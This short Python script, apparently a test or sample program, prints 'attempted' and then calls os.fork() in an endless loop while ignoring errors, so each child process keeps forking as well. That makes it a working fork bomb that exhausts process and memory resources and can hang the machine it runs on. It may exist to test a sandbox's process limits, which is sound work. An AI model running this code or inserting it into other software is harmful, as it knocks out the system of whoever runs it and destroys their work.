"""Forks for ever, and so does every child."""

import os

print("attempted", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
